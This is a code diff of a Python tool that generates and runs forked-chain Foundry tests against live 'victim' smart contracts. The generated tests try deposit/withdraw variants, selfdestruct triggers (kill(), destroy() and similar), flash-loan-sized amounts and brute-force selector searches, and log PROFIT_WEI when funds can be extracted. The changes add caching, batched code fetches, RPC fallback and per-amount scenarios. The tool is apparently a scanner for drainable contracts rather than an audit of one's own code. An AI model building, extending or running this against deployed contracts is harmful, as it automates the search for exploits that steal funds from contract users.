@@ -237,42 +941,31 @@ contract HoneypotTestToken is Test {
              uint256 expectedEth = (tokenBal * startEth) / tokenAmount;
              uint256 minOutEth = (expectedEth * 999) / 1000;
 
-             try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
-                tokenIn: token, tokenOut: weth, fee: 3000, recipient: attacker,
-                deadline: block.timestamp, amountIn: tokenBal, amountOutMinimum: minOutEth, sqrtPriceLimitX96: 0
-            })) returns (uint256 amountOut) {
-                 (bool s, ) = weth.call(abi.encodeWithSignature("withdraw(uint256)", amountOut));
-                 require(s, "Unwrap failed");
-            } catch {
+             // Slippage guard on the best tier only; fallbacks accept any output
+             uint24[3] memory swapFees = [uint24(${FEE_TIER_1}), uint24(${FEE_TIER_2}), uint24(${FEE_TIER_3})];
+             bool swapped;
+             for (uint256 fi = 0; fi < 3 && !swapped; fi++) {
                  try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
-                    tokenIn: token, tokenOut: weth, fee: 500, recipient: attacker,
-                    deadline: block.timestamp, amountIn: tokenBal, amountOutMinimum: 0, sqrtPriceLimitX96: 0
+                    tokenIn: token, tokenOut: weth, fee: swapFees[fi], recipient: attacker,
+                    deadline: block.timestamp, amountIn: tokenBal, amountOutMinimum: fi == 0 ? minOutEth : 0, sqrtPriceLimitX96: 0
                 })) returns (uint256 amountOut) {
                     (bool s, ) = weth.call(abi.encodeWithSignature("withdraw(uint256)", amountOut));
                     require(s, "Unwrap failed");
-                } catch {
-                     try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
-                        tokenIn: token, tokenOut: weth, fee: 10000, recipient: attacker,
-                        deadline: block.timestamp, amountIn: tokenBal, amountOutMinimum: 0, sqrtPriceLimitX96: 0
-                    })) returns (uint256 amountOut) {
-                        (bool s, ) = weth.call(abi.encodeWithSignature("withdraw(uint256)", amountOut));
-                        require(s, "Unwrap failed");
-                    } catch {
-                         revert("Swap Token->ETH failed");
-                    }
-                }
-            }
+                    swapped = true;
+                } catch {}
+             }
+             require(swapped, "Swap Token->ETH failed");
         } else {
             (bool s, ) = weth.call(abi.encodeWithSignature("withdraw(uint256)", tokenBal));
             require(s, "Unwrap failed");
         }
 
         uint256 ethBalAfter = attacker.balance;
-        int256 profit = int256(ethBalAfter) - int256(ethBalBefore);
         
-        if (profit > 0) {
-            console.log("PROFIT_WEI:", uint256(profit));
-            console.log("[SIM] Profit found:", uint256(profit), "wei");
+        if (ethBalAfter > ethBalBefore) {
+            uint256 profit = ethBalAfter - ethBalBefore;
+            console.log("PROFIT_WEI:", profit);
+            console.log("[SIM] Profit found:", profit, "wei");
         } else {
             console.log("[SIM] No profit or loss detected.");
         }
@@ -307,9 +1000,8 @@ contract HoneypotTestToken is Test {
         if (!s) (s, ) = victim.call(abi.encodeWithSignature("exit()"));
     }
 
-    function testRoundingDustExploit() public {
+    function _testRoundingDustExploit(uint256 startEth) internal {
         vm.startPrank(attacker);
-        uint256 startEth = 10 ether;
         vm.deal(attacker, startEth);
         uint256 ethBalBefore = attacker.balance;
         
@@ -363,42 +1055,38 @@ contract HoneypotTestToken is Test {
             }
         }
 
-        <DEEP_SEARCH_LOGIC>
+        ${DEEP_SEARCH_LOGIC}
 
         // 5. Swap back to ETH
         uint256 tokenBal = IERC20(token).balanceOf(attacker);
         if (tokenBal > 0 && token != weth) {
              IERC20(token).approve(router, tokenBal);
-             try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
-                tokenIn: token, tokenOut: weth, fee: 3000, recipient: attacker,
-                deadline: block.timestamp, amountIn: tokenBal, amountOutMinimum: 0, sqrtPriceLimitX96: 0
-            })) returns (uint256 amountOut) {
-                 weth.call(abi.encodeWithSignature("withdraw(uint256)", amountOut));
-            } catch {
-                try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
-                    tokenIn: token, tokenOut: weth, fee: 10000, recipient: attacker,
+             uint24[3] memory swapFees = [uint24(${FEE_TIER_1}), uint24(${FEE_TIER_2}), uint24(${FEE_TIER_3})];
+             for (uint256 fi = 0; fi < 3; fi++) {
+                 try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
+                    tokenIn: token, tokenOut: weth, fee: swapFees[fi], recipient: attacker,
                     deadline: block.timestamp, amountIn: tokenBal, amountOutMinimum: 0, sqrtPriceLimitX96: 0
                 })) returns (uint256 amountOut) {
                      weth.call(abi.encodeWithSignature("withdraw(uint256)", amountOut));
+                     break;
                 } catch {}
-            }
+             }
         } else if (tokenBal > 0 && token == weth) {
             weth.call(abi.encodeWithSignature("withdraw(uint256)", tokenBal));
         }
 
         uint256 ethBalAfter = attacker.balance;
-        int256 profit = int256(ethBalAfter) - int256(ethBalBefore);
         
-        if (profit > 0) {
-            console.log("PROFIT_WEI:", uint256(profit));
+        if (ethBalAfter > ethBalBefore) {
+            uint256 profit = ethBalAfter - ethBalBefore;
+            console.log("PROFIT_WEI:", profit);
             console.log("SUCCESS_METHOD: rounding_dust_loop");
-            console.log("[SIM] Rounding Dust Profit:", uint256(profit));
+            console.log("[SIM] Rounding Dust Profit:", profit);
         }
         vm.stopPrank();
     }
-    function testRoundingDrift() public {
+    function _testRoundingDrift(uint256 startEth) internal {
         vm.startPrank(attacker);
-        uint256 startEth = 10 ether;
         vm.deal(attacker, startEth);
         
         // Acquire tokens
@@ -444,6 +1132,7 @@ contract HoneypotTestToken is Test {
         }
         vm.stopPrank();
     }
+${AMOUNT_TESTS}
 }
 """
 
@@ -462,25 +1151,28 @@ interface IVault {
 }
 
 contract HoneypotTestETH is Test {
-    address victim = <VICTIM_ADDRESS>;
+    address victim;
     address attacker = address(0x1337);
     
     function setUp() public {
-        vm.createSelectFork("<RPC_URL>");
+        // Addresses, RPC and fork block come from the environment (see _honeypot_env),
+        // so the source and its compiled artifact are shared between victims and endpoints
+        victim = vm.envAddress("SIM_VICTIM");
+        uint256 forkBlock = vm.envOr("SIM_FORK_BLOCK", uint256(0));
+        if (forkBlock == 0) vm.createSelectFork(vm.envString("SIM_RPC_URL"));
+        else vm.createSelectFork(vm.envString("SIM_RPC_URL"), forkBlock);
         vm.label(victim, "Victim");
         vm.label(attacker, "Attacker");
     }
 
-    function testSafeCycleETH() public {
+    function _testSafeCycleETH(uint256 amount) internal {
         vm.startPrank(attacker);
         
         console.log("Contract ETH Balance:", address(victim).balance);
 
-        <SEQUENCER_FEE_LOGIC>
+        ${SEQUENCER_FEE_LOGIC}
         
-        uint256 amount = 20 ether; // Flash Loan Amount
-        vm.deal(attacker, amount); 
-        console.log("Flash Loan Mode: 20 ETH simulated");
+        vm.deal(attacker, amount); // Flash Loan Amount
         
         uint256 balBefore = attacker.balance;
 
@@ -510,10 +1202,10 @@ contract HoneypotTestETH is Test {
         // Fallback: Raw call with 1 wei
         if (!success) (success, ) = victim.call{value: 1 wei}("");
 
-        <SELF_DESTRUCT_LOGIC>
+        ${SELF_DESTRUCT_LOGIC}
         
         require(success, "Deposit failed (tried all variants)");
-        <TIMESTAMP_WARP_LOGIC>
+        ${TIMESTAMP_WARP_LOGIC}
         
         // 2. Withdraw
         // Priority: withdraw(uint256) -> withdraw() -> withdrawAll() -> redeem(uint256)
@@ -544,7 +1236,7 @@ contract HoneypotTestETH is Test {
 
         success = false; // Force Deep Search if no profit found
 
-        <DEEP_SEARCH_LOGIC>
+        ${DEEP_SEARCH_LOGIC}
 
         require(success, "Withdraw failed (tried all variants)");
         
@@ -590,7 +1282,7 @@ contract HoneypotTestETH is Test {
              success = false; // Force Deep Search
         }
 
-        <DEEP_SEARCH_LOGIC>
+        ${DEEP_SEARCH_LOGIC}
 
         uint256 balAfter = attacker.balance;
         if (balAfter > balBefore) {
@@ -600,15 +1292,10 @@ contract HoneypotTestETH is Test {
     }
 
     function _checkProfit(uint256 balBefore, string memory method) internal view {
-        uint256 balAfter = attacker.balance;
-        int256 profit = int256(balAfter) - int256(balBefore);
+        // Profit is final - start, worked out in Python from these two logs
         console.log("SUCCESS_METHOD:", method);
-        if (profit > 0) {
-            console.log("PROFIT_WEI:", uint256(profit));
-            console.log("[SIM] Profit found:", uint256(profit), "wei");
-        } else {
-            console.log("[SIM] No profit or loss detected.");
-        }
+        console.log("START_BAL:", balBefore);
+        console.log("FINAL_BAL:", attacker.balance);
     }
 
     function testRoundingDrift() public {
@@ -660,64 +1347,263 @@ contract HoneypotTestETH is Test {
         }
         vm.stopPrank();
     }
+${AMOUNT_TESTS}
 }
 """
 
+# Single-pass substitution; compiled once at import
+_SIGNATURE_CALL_RE = re.compile(r'abi\.encodeWithSignature\("([^"]+)"')
+_SIGNATURE_HASH_RE = re.compile(r'bytes4\(keccak256\("([^"]+)"\)\)')
+
+
+@functools.lru_cache(maxsize=None)
+def _selector_literal(signature: str) -> str:
+    return "0x" + bytes(Web3.keccak(text=signature)[:4]).hex()
+
+
+@functools.lru_cache(maxsize=64)
+def _inline_selectors(source: str) -> str:
+    """
+    Replace signature strings with precomputed bytes4 literals.
+
+    abi.encodeWithSignature("f(uint256)", ...) becomes
+    abi.encodeWithSelector(bytes4(0x...), ...) and bytes4(keccak256("f()"))
+    becomes bytes4(0x...), so solc no longer hashes ~100 signature strings
+    per generated test. Sources are constant snippets, hence the cache.
+    """
+    source = _SIGNATURE_CALL_RE.sub(
+        lambda m: f"abi.encodeWithSelector(bytes4({_selector_literal(m.group(1))})", source
+    )
+    return _SIGNATURE_HASH_RE.sub(lambda m: f"bytes4({_selector_literal(m.group(1))})", source)
+
+
+_PLACEHOLDER_RE = re.compile(r"\$\{([A-Z_0-9]+)\}")
+
+
+def _split_template(source: str) -> Tuple[str, ...]:
+    """Split a ${NAME} template once into alternating literal / placeholder-name parts."""
+    return tuple(_PLACEHOLDER_RE.split(source))
+
+
+def _render(parts: Tuple[str, ...], subs: Dict[str, Any]) -> str:
+    """Join pre-split template parts, filling every placeholder from subs in one pass."""
+    out = list(parts)
+    out[1::2] = [str(subs[name]) for name in parts[1::2]]
+    return "".join(out)
+
+
+# (label, Solidity amount literal[, wei]) per scenario. Every amount gets a thin
+# public wrapper around the amount-taking tests, so all scenarios share one file,
+# one compile and one fork; forge restores the post-setUp state for each test.
+_TOKEN_AMOUNT_TESTS: Tuple[str, ...] = ("testInflationExploit", "testRoundingDustExploit", "testRoundingDrift")
+_ETH_AMOUNT_TESTS: Tuple[str, ...] = ("testSafeCycleETH",)
+# Result label of the tests that take no amount (testSafeCycleToken, the ETH rounding tests)
+_SHARED_LABEL = "shared"
+_TOKEN_START_AMOUNTS: Tuple[Tuple[str, str], ...] = (
+    ("10_eth", "10 ether"),
+    ("1_wei", "1 wei"),
+    ("1_eth", "1 ether"),
+    ("5_eth", "5 ether"),
+    ("100_eth", "100 ether"),
+)
+_ETH_FLASH_AMOUNTS: Tuple[Tuple[str, str, int], ...] = (
+    ("20_eth", "20 ether", 20 * 10**18),
+    ("10_eth", "10 ether", 10 * 10**18),
+    ("5_eth", "5 ether", 5 * 10**18),
+    ("1_eth", "1 ether", 1 * 10**18),
+    ("0_1_eth", "0.1 ether", int(0.1 * 10**18)),
+    ("0_01_eth", "0.01 ether", int(0.01 * 10**18)),
+    ("0_001_eth", "0.001 ether", int(0.001 * 10**18)),
+    ("1_wei", "1 wei", 1),
+)
+
+
+
+@functools.lru_cache(maxsize=16)
+def _amount_tests(tests: Tuple[str, ...], amounts: Tuple[Tuple[Any, ...], ...]) -> str:
+    """Solidity wrappers `<test>_<label>()` calling `_<test>(<amount>)` for each scenario."""
+    return "".join(
+        f"\n    function {test}_{amount[0]}() public {{ _{test}({amount[1]}); }}"
+        for amount in amounts for test in tests
+    )
+
+
+@functools.lru_cache(maxsize=16)
+def _scenario_tests(tests: Tuple[str, ...], amounts: Tuple[Tuple[Any, ...], ...]) -> Dict[str, str]:
+    """Test signature -> scenario label for the wrappers emitted by _amount_tests (shared, do not mutate)."""
+    return {f"{test}_{amount[0]}()": amount[0] for amount in amounts for test in tests}
+
+
+def _scenario_labels(test_labels: Dict[str, str]) -> List[str]:
+    """Result labels of a scenario run: each amount in first-seen order, then _SHARED_LABEL."""
+    return [*dict.fromkeys(test_labels.values()), _SHARED_LABEL]
+
+
+_HONEYPOT_PARTS = _split_template(_inline_selectors(HONEYPOT_TEST_TEMPLATE))
+_HONEYPOT_ETH_PARTS = _split_template(_inline_selectors(HONEYPOT_TEST_ETH_TEMPLATE))
+
+# (chain_id, lowercase address) -> (scanned_at, injected selectors); saves the eth_getCode on repeat victims
+_SD_SELECTOR_CACHE: Dict[Tuple[int, str], Tuple[float, List[str]]] = {}
+_SD_SELECTOR_CACHE_MAX = 4096
+_SD_SELECTOR_CACHE_LOCK = threading.Lock()
+
+
 def _detect_self_destruct_selectors(w3: Web3, address: str) -> List[str]:
     """
     Detect if contract has SELFDESTRUCT opcode and return candidate selectors.
+
+    Only 0xff at an instruction boundary counts; PUSH data bytes are skipped
+    so constants like type(uint256).max do not trigger selector injection.
+    Results are cached per (chain, lowercase address) for _CODE_TTL_SEC, so
+    proxies sharing one implementation cost a single fetch between them.
     """
     try:
-        code = w3.eth.get_code(Web3.to_checksum_address(address))
-        if not code or b'\xff' not in code:
-            return []
-        
-        # If SELFDESTRUCT is present, try common selectors
-        # kill(), destroy(), close(), die(), shutdown()
-        return [
-            "0x41c0e1b5", # kill()
-            "0x83197ef0", # destroy()
-            "0xcbf0b0c0", # suicide()
-            "0x43d726d6", # close()
-            "0x35f46994", # die()
-            "0x0c55699c"  # shutdown()
-        ]
+        key = (get_chain_id(w3), address.lower())
     except Exception:
         return []
+    cached = _cached_sd_selectors(key)
+    if cached is not None:
+        return list(cached)
 
-def _get_self_destruct_logic(selectors: List[str]) -> str:
-    if not selectors:
-        return ""
-    
-    logic = """
+    selectors = _scan_self_destruct_selectors(w3, address)
+    if selectors is not None:
+        _store_sd_selectors(key, selectors)
+    return list(selectors or [])
+
+
+def _cached_sd_selectors(key: Tuple[int, str]) -> Optional[List[str]]:
+    with _SD_SELECTOR_CACHE_LOCK:
+        entry = _SD_SELECTOR_CACHE.get(key)
+    if entry is None or time.time() - entry[0] >= _CODE_TTL_SEC:
+        return None
+    return entry[1]
+
+
+def _store_sd_selectors(key: Tuple[int, str], selectors: List[str]) -> None:
+    with _SD_SELECTOR_CACHE_LOCK:
+        if len(_SD_SELECTOR_CACHE) >= _SD_SELECTOR_CACHE_MAX:
+            _SD_SELECTOR_CACHE.clear()
+        _SD_SELECTOR_CACHE[key] = (time.time(), selectors)
+
+
+def prewarm_selectors(w3: Web3, addresses: List[str]) -> None:
+    """
+    Fill the self-destruct selector cache for many addresses at once.
+
+    Code for every uncached address is requested in one JSON-RPC batch
+    instead of one eth_getCode per victim when simulations start.
+
+    Args:
+        w3: Web3 instance (HTTP provider) for the chain
+        addresses: Victim or implementation addresses
+    """
+    endpoint = getattr(w3.provider, "endpoint_uri", None)
+    if not endpoint or not addresses:
+        return
+    try:
+        chain_id = get_chain_id(w3)
+    except Exception:
+        return
+    missing = [a for a in dict.fromkeys(a.lower() for a in addresses if a)
+               if _cached_sd_selectors((chain_id, a)) is None]
+    if not missing:
+        return
+    try:
+        codes = rpc_batch(str(endpoint), [("eth_getCode", [a, "latest"]) for a in missing])
+    except Exception as e:
+        logger.debug(f"Selector prewarm failed: {e}")
+        return
+    for address, code in zip(missing, codes):
+        if code is not None:
+            code_bytes = bytes.fromhex(code[2:])
+            _store_code((chain_id, address), code_bytes)
+            _store_sd_selectors((chain_id, address), _self_destruct_selectors_for_code(code_bytes))
+
+
+def _detect_self_destruct_selectors_batch(w3: Web3, addresses: List[str]) -> Dict[str, List[str]]:
+    """
+    _detect_self_destruct_selectors for many addresses with one eth_getCode batch.
+
+    Args:
+        w3: Web3 instance (HTTP provider) for the chain
+        addresses: Victim or implementation addresses
+
+    Returns:
+        Address (as given) -> injected selectors; addresses the batch missed
+        fall back to a single fetch
+    """
+    targets = [a for a in dict.fromkeys(addresses) if a]
+    prewarm_selectors(w3, targets)
+    return {address: _detect_self_destruct_selectors(w3, address) for address in targets}
+
+
+_SD_CANDIDATE_SIGNATURES: Tuple[str, ...] = ("kill()", "destroy()", "suicide()", "close()", "die()", "shutdown()")
+_SD_CANDIDATE_SELECTORS: Tuple[str, ...] = tuple(_selector_literal(sig) for sig in _SD_CANDIDATE_SIGNATURES)
+# Dispatcher encoding of each candidate: PUSH4 <selector>
+_SD_CANDIDATE_PATTERNS: Tuple[Tuple[str, bytes], ...] = tuple(
+    (sel, b"\x63" + bytes.fromhex(sel[2:])) for sel in _SD_CANDIDATE_SELECTORS
+)
+
+
+def _scan_self_destruct_selectors(w3: Web3, address: str) -> Optional[List[str]]:
+    """Fetch code and pick selectors; None if the code could not be fetched."""
+    try:
+        return _self_destruct_selectors_for_code(_get_code(w3, address))
+    except Exception:
+        return None
+
+
+def _self_destruct_selectors_for_code(code: bytes) -> List[str]:
+    if not code or not has_opcode(code, SELFDESTRUCT):
+        return []
+
+    # If SELFDESTRUCT is present, only inject the candidates the dispatcher actually has
+    present = [sel for sel, pattern in _SD_CANDIDATE_PATTERNS if pattern in code]
+    # None matched: keep one call so a selfdestructing fallback is still exercised
+    return present or [_SD_CANDIDATE_SELECTORS[0]]
+
+# One call site looping over the selector table instead of one unrolled block per selector
+_SD_LOGIC_PARTS = _split_template("""
         // Try Self-Destruct triggers (Opcode 0xff detected)
         bool sdSuccess;
         uint256 sdBalBefore = attacker.balance;
         // Capture code before potential self-destruct
         bytes memory originalCode = address(victim).code;
-    """
-    for sel in selectors:
-        logic += f"""
-        (sdSuccess, ) = victim.call(abi.encodeWithSelector(bytes4({sel})));
-        if (sdSuccess) {{
-            success = true; // Mark as successful interaction
-            console.log("Self-destruct triggered with selector {sel}");
-            
-            uint256 sdBalAfter = attacker.balance;
-            if (sdBalAfter > sdBalBefore) {{
-                console.log("PROFIT_WEI:", sdBalAfter - sdBalBefore);
-                console.log("SUCCESS_METHOD: self_destruct_sweep");
-                vm.stopPrank();
-                return; // Early exit on profit
-            }}
-
-            if (address(victim).code.length == 0) {{
-                console.log("Contract code destroyed. Reincarnating via vm.etch...");
-                vm.etch(victim, originalCode);
-            }}
-        }}
-        """
-    return logic
+        bytes4[${COUNT}] memory sdSels = [${TABLE}];
+        for (uint256 sdI = 0; sdI < ${COUNT}; sdI++) {
+            (sdSuccess, ) = victim.call(abi.encodeWithSelector(sdSels[sdI]));
+            if (sdSuccess) {
+                success = true; // Mark as successful interaction
+                console.log("Self-destruct triggered with selector");
+                console.logBytes4(sdSels[sdI]);
+
+                uint256 sdBalAfter = attacker.balance;
+                if (sdBalAfter > sdBalBefore) {
+                    console.log("PROFIT_WEI:", sdBalAfter - sdBalBefore);
+                    console.log("SUCCESS_METHOD: self_destruct_sweep");
+                    vm.stopPrank();
+                    return; // Early exit on profit
+                }
+
+                if (address(victim).code.length == 0) {
+                    console.log("Contract code destroyed. Reincarnating via vm.etch...");
+                    vm.etch(victim, originalCode);
+                }
+            }
+        }
+        """)
+
+
+def _get_self_destruct_logic(selectors: List[str]) -> str:
+    if not selectors:
+        return ""
+    return _self_destruct_logic(tuple(selectors))
+
+
+@functools.lru_cache(maxsize=256)
+def _self_destruct_logic(selectors: Tuple[str, ...]) -> str:
+    # Selector lists repeat (usually the same six), so the block is built once per list
+    return _render(_SD_LOGIC_PARTS, {"COUNT": len(selectors), "TABLE": ", ".join(f"bytes4({sel})" for sel in selectors)})
 
 def _get_sequencer_fee_logic(bug_type: Optional[str]) -> str:
     if bug_type != "sequencer_fee":
@@ -866,45 +1752,51 @@ def _get_timestamp_warp_logic(bug_type: Optional[str]) -> str:
     """
 
 
-def generate_honeypot_test_token(victim_address: str, token_address: str, rpc_url: str, weth_address: str, router_address: str, self_destruct_selectors: List[str] = None, bug_type: Optional[str] = None) -> str:
-    content = HONEYPOT_TEST_TEMPLATE.replace("<VICTIM_ADDRESS>", victim_address)
-    content = content.replace("<TOKEN_ADDRESS>", token_address)
-    content = content.replace("<RPC_URL>", rpc_url)
-    content = content.replace("<WETH_ADDRESS>", weth_address)
-    content = content.replace("<ROUTER_ADDRESS>", router_address)
-    
-    sd_logic = _get_self_destruct_logic(self_destruct_selectors)
-    content = content.replace("<SELF_DESTRUCT_LOGIC>", sd_logic)
-
-    sf_logic = _get_sequencer_fee_logic(bug_type)
-    content = content.replace("<SEQUENCER_FEE_LOGIC>", sf_logic)
+def generate_honeypot_test_token(self_destruct_selectors: List[str] = None, bug_type: Optional[str] = None, fee_tiers: Tuple[int, int, int] = _DEFAULT_FEE_TIERS, victim_selectors: FrozenSet[str] = frozenset(), amounts: Tuple[Tuple[str, str], ...] = _TOKEN_START_AMOUNTS) -> str:
+    """Token-mode test source; run it with the variables from _honeypot_env."""
+    return _loop_selector_ladders(_prune_selector_ladders(_render(_HONEYPOT_PARTS, {
+        "FEE_TIER_1": fee_tiers[0],
+        "FEE_TIER_2": fee_tiers[1],
+        "FEE_TIER_3": fee_tiers[2],
+        "SELF_DESTRUCT_LOGIC": _get_self_destruct_logic(self_destruct_selectors),
+        "SEQUENCER_FEE_LOGIC": _inline_selectors(_get_sequencer_fee_logic(bug_type)),
+        "ROUNDING_LOGIC": _inline_selectors(_get_rounding_inflation_logic(bug_type)),
+        "TIMESTAMP_WARP_LOGIC": _get_timestamp_warp_logic(bug_type),
+        "DEEP_SEARCH_LOGIC": _inline_selectors(_get_deep_search_logic_token()),
+        "AMOUNT_TESTS": _amount_tests(_TOKEN_AMOUNT_TESTS, amounts),
+    }), victim_selectors))
+
+def generate_honeypot_test_eth(self_destruct_selectors: List[str] = None, bug_type: Optional[str] = None, victim_selectors: FrozenSet[str] = frozenset(), amounts: Tuple[Tuple[str, str, int], ...] = _ETH_FLASH_AMOUNTS) -> str:
+    """ETH-mode test source; run it with the variables from _honeypot_env."""
+    return _loop_selector_ladders(_prune_selector_ladders(_render(_HONEYPOT_ETH_PARTS, {
+        "SELF_DESTRUCT_LOGIC": _get_self_destruct_logic(self_destruct_selectors),
+        "SEQUENCER_FEE_LOGIC": _inline_selectors(_get_sequencer_fee_logic(bug_type)),
+        "TIMESTAMP_WARP_LOGIC": _get_timestamp_warp_logic(bug_type),
+        "DEEP_SEARCH_LOGIC": _inline_selectors(_get_deep_search_logic()),
+        "AMOUNT_TESTS": _amount_tests(_ETH_AMOUNT_TESTS, amounts),
+    }), victim_selectors))
+
+def _honeypot_env(endpoint: str, victim_address: str, token_address: Optional[str] = None, weth_address: Optional[str] = None, router_address: Optional[str] = None) -> Dict[str, str]:
+    """
+    Per-run environment read by the generated tests' setUp.
 
-    ri_logic = _get_rounding_inflation_logic(bug_type)
-    content = content.replace("<ROUNDING_LOGIC>", ri_logic)
-    tw_logic = _get_timestamp_warp_logic(bug_type)
-    content = content.replace("<TIMESTAMP_WARP_LOGIC>", tw_logic)
-    
-    ds_logic = _get_deep_search_logic_token()
-    content = content.replace("<DEEP_SEARCH_LOGIC>", ds_logic)
-    
-    return content
+    Args:
+        endpoint: RPC URL to fork
+        victim_address: Contract under test
+        token_address, weth_address, router_address: Token-mode addresses
 
-def generate_honeypot_test_eth(victim_address: str, rpc_url: str, self_destruct_selectors: List[str] = None, bug_type: Optional[str] = None) -> str:
-    content = HONEYPOT_TEST_ETH_TEMPLATE.replace("<VICTIM_ADDRESS>", victim_address)
-    content = content.replace("<RPC_URL>", rpc_url)
-    
-    sd_logic = _get_self_destruct_logic(self_destruct_selectors)
-    content = content.replace("<SELF_DESTRUCT_LOGIC>", sd_logic)
+    Returns:
+        SIM_* variables for the forge child process
+    """
+    env = {"SIM_RPC_URL": endpoint, "SIM_VICTIM": victim_address}
+    fork_block = _fork_block(endpoint)
+    if fork_block:
+        env["SIM_FORK_BLOCK"] = str(fork_block)
+    for name, value in (("SIM_TOKEN", token_address), ("SIM_WETH", weth_address), ("SIM_ROUTER", router_address)):
+        if value:
+            env[name] = value
+    return env
 
-    sf_logic = _get_sequencer_fee_logic(bug_type)
-    content = content.replace("<SEQUENCER_FEE_LOGIC>", sf_logic)
-    tw_logic = _get_timestamp_warp_logic(bug_type)
-    content = content.replace("<TIMESTAMP_WARP_LOGIC>", tw_logic)
-    
-    ds_logic = _get_deep_search_logic()
-    content = content.replace("<DEEP_SEARCH_LOGIC>", ds_logic)
-    
-    return content
 
 def _get_deep_search_logic_token() -> str:
     return """
@@ -941,11 +1833,12 @@ def _get_deep_search_logic_token() -> str:
 
                  if (s) {
                      // Check ETH profit
-                     if (attacker.balance > deepBalCheck) {
+                     uint256 deepBalAfter = attacker.balance;
+                     if (deepBalAfter > deepBalCheck) {
                          // _checkProfit is internal to Test contract, we can reuse it if available or inline log
                          console.log("SUCCESS_METHOD: deep_search"); 
-                         console.log("PROFIT_WEI:", attacker.balance - deepBalCheck);
-                         console.log("[SIM] Profit found (ETH):", attacker.balance - deepBalCheck);
+                         console.log("PROFIT_WEI:", deepBalAfter - deepBalCheck);
+                         console.log("[SIM] Profit found (ETH):", deepBalAfter - deepBalCheck);
                          console.log("SELECTOR:");
                          console.logBytes4(selectors[i]);
                          success = true; 
@@ -1024,83 +1917,61 @@ def run_honeypot_simulation_token(victim_address: str, token_address: str, rpc_u
         if sd_selectors:
             logger.info(f"Injecting Self-Destruct selectors for {target}")
 
-    endpoints: List[str] = []
-    if rpc_url:
-        endpoints.append(rpc_url)
-    for e in RPCS:
-        if e not in endpoints:
-            endpoints.append(e)
+    chain_w3 = w3 or get_shared_w3(rpc_url or RPCS[0])
+    fee_tiers = _resolve_v3_fee_tiers(chain_w3, router_address, token_address, weth_address)
+    victim_selectors = _victim_selectors(chain_w3, implementation_address or victim_address)
 
     last_result: Dict[str, Any] = {}
-
-    for endpoint in endpoints:
-        base_content = generate_honeypot_test_token(victim_address, token_address, endpoint, weth_address, router_address, sd_selectors, bug_type)
-        scenarios: List[Dict[str, Any]] = []
-
-        # Багато фіксованих сценаріїв за розміром депозита
-        scenarios.append({
-            "label": "10_eth",
-            "content": base_content
-        })
-        scenarios.append({
-            "label": "1_wei",
-            "content": base_content.replace("uint256 startEth = 10 ether;", "uint256 startEth = 1 wei;")
-        })
-        scenarios.append({
-            "label": "1_eth",
-            "content": base_content.replace("uint256 startEth = 10 ether;", "uint256 startEth = 1 ether;")
-        })
-        scenarios.append({
-            "label": "5_eth",
-            "content": base_content.replace("uint256 startEth = 10 ether;", "uint256 startEth = 5 ether;")
-        })
-        scenarios.append({
-            "label": "100_eth",
-            "content": base_content.replace("uint256 startEth = 10 ether;", "uint256 startEth = 100 ether;")
-        })
-
-        best_result: Dict[str, Any] = {}
-        zero_profit_safe = False
-
-        for scenario in scenarios:
-            time.sleep(0.1)
-            test_content = scenario["content"]
-            result = _run_forge_test(victim_address, test_content, unique_id=scenario["label"])
-            last_result = result
-            if not best_result or result.get("simulated_profit", 0) > best_result.get("simulated_profit", 0):
-                best_result = result
-
-            combined = f"{result.get('error') or ''}\n{result.get('output') or ''}"
-            if "429" in combined or "Too Many Requests" in combined:
-                logger.warning(f"RPC 429 detected during token simulation on {endpoint}, backing off for 0.5 seconds")
-                time.sleep(0.5)
-                break
-
-            if bug_type == "vault_rounding_dust":
-                profit = result.get("simulated_profit", 0)
-                if scenario["label"] == "10_eth" and result.get("safe") and profit == 0:
-                    zero_profit_safe = True
-                logger.info(f"[ROUNDING_SIM] Scenario {scenario['label']} profit: {profit}")
-
-            if result.get("simulated_profit", 0) > 0:
-                return result
-
-        if bug_type == "vault_rounding_dust" and zero_profit_safe:
-            logger.info("[INFO] Vault secure against simple 10 ETH inflation")
-            try:
-                print("[INFO] Vault secure against simple 10 ETH inflation", flush=True)
-            except Exception:
-                pass
-
-        if best_result:
-            return best_result
+    # Багато фіксованих сценаріїв за розміром депозита, all in one test file shared by every endpoint
+    content = generate_honeypot_test_token(sd_selectors, bug_type, fee_tiers, victim_selectors)
+    test_labels = _scenario_tests(_TOKEN_AMOUNT_TESTS, _TOKEN_START_AMOUNTS)
+
+    with _simulation_endpoints(rpc_url) as endpoints:
+        for endpoint in endpoints:
+            _prefetch_accounts(endpoint, [victim_address, implementation_address, token_address, weth_address, router_address])
+            env = _honeypot_env(endpoint, victim_address, token_address, weth_address, router_address)
+
+            best_result: Dict[str, Any] = {}
+            zero_profit_safe = False
+            rate_limited = False
+
+            results = _run_forge_scenarios(content, test_labels, env)
+            if _upstream_failed(results):
+                logger.warning(f"Token simulation could not read state through {endpoint}; trying the next endpoint")
+                last_result = next(iter(results.values()))
+                continue
+
+            for label, result in results.items():
+                last_result = result
+                if _is_rate_limited(result):
+                    # _run_forge_paced already slowed this endpoint down; move on to the next one
+                    logger.warning(f"RPC 429 detected during token simulation on {endpoint}")
+                    rate_limited = True
+                    break
+
+                if not best_result or result.get("simulated_profit", 0) > best_result.get("simulated_profit", 0):
+                    best_result = result
+
+                if bug_type == "vault_rounding_dust":
+                    profit = result.get("simulated_profit", 0)
+                    if label == "10_eth" and result.get("safe") and profit == 0:
+                        zero_profit_safe = True
+                    logger.info(f"[ROUNDING_SIM] Scenario {label} profit: {profit}")
+
+                if result.get("simulated_profit", 0) > 0:
+                    return result
+
+            if rate_limited:
+                continue
+
+            if bug_type == "vault_rounding_dust" and zero_profit_safe:
+                logger.info("[INFO] Vault secure against simple 10 ETH inflation")
+
+            if best_result:
+                return best_result
 
     if bug_type == "vault_rounding_dust" and last_result.get("safe") and last_result.get("simulated_profit", 0) == 0:
         logger.info("[INFO] Vault secure against simple 10 ETH inflation")
-        try:
-            print("[INFO] Vault secure against simple 10 ETH inflation", flush=True)
-        except Exception:
-            pass
     return last_result
 
 def run_honeypot_simulation_eth(victim_address: str, rpc_url: str, w3: Optional[Web3] = None, implementation_address: Optional[str] = None, bug_type: Optional[str] = None) -> Dict[str, Any]:
